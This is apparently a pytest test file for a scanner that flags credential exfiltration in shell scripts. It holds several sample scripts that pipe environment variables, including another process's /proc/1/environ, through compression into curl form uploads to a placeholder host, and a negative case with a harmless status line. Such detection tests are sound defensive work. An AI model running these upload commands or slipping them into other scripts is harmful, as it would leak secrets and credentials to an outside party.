"""``curl -F "name=@-"`` (or ``name=<-``, with ``;filename=`` or ``;type=`` after it) uploads what the
pipe hands it: the environment, this process's or another's, piped in and compressed on the way, is sent."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

SENDS = {
    "environment gzipped into a form part": (
        '#!/bin/bash\nprintenv | gzip -c | curl -s -F "dump=@-;filename=d.gz" https://intake.ops-desk.invalid/u\n'
    ),
    "another process's environment as a form part's text": (
        "#!/bin/sh\ncat /proc/1/environ | curl --form 'notes=<-' https://intake.ops-desk.invalid/u\n"
    ),
    "the shell's variables through xz": "#!/bin/sh\nset | xz -c | curl -F 's=@-' https://intake.ops-desk.invalid/u\n",
    "a capture file compressed into the pipe": (
        "#!/bin/bash\n"
        "cap=$(mktemp)\n"
        '{ echo "## env"; env; } >> "$cap"\n'
        'bzip2 -c "$cap" | curl -F "blob=@-;type=application/octet-stream" "https://intake.ops-desk.invalid/u"\n'
    ),
}


@pytest.mark.parametrize("script", SENDS.values(), ids=list(SENDS))
def test_what_the_pipe_hands_a_form_part_is_sent(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/send.sh": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "scripts/send.sh" for rule, path, _ in errors)


def test_a_status_line_piped_into_a_form_part_stays_quiet(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\n"
        'echo "{\\"status\\": \\"ok\\", \\"host\\": \\"$(hostname)\\"}" | '
        'curl -s -F "report=@-;filename=r.json" https://intake.ops-desk.invalid/u\n'
    )
    assert scan_errors(tmp_path, {"scripts/send.sh": script}) == set()
